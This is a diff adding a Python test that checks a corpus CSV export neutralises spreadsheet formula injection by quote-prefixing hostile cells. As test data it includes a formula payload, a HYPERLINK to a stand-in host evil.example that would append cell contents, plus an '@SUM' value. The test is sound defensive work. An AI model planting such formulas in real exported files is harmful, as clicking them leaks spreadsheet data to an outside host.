@@ -82,3 +82,18 @@ def test_corpus_export_cli(tmp_path: Path) -> None:
     assert result.exit_code == 2 and "parquet needs an output file" in result.stderr
     result = runner.invoke(app, ["export", "--db", db, "-f", "parquet", "-o", str(tmp_path / "c.parquet")])
     assert result.exit_code == 0 and len(list(read_export(tmp_path / "c.parquet"))) == 3
+
+
+def test_corpus_export_csv_cells_never_run_as_formulas(store: Store, tmp_path: Path) -> None:
+    base = rich_analysis()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    article = Article(text=base.article.text, title=hostile, outlet="@SUM(1+1)", url=base.article.url,
+                      paragraphs=base.article.paragraphs, sentences=base.article.sentences)
+    store.put(Analysis(article, {}, ()))
+    export(store, "csv", tmp_path / "x.csv")
+    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["title"] == "'" + hostile and row["outlet"] == "'@SUM(1+1)"
+    assert row["text"] == base.article.text  # ordinary cells are untouched
+    (back,) = list(read_export(tmp_path / "x.csv"))
+    assert (back.article.title, back.article.outlet) == (hostile, "@SUM(1+1)")  # nothing lost
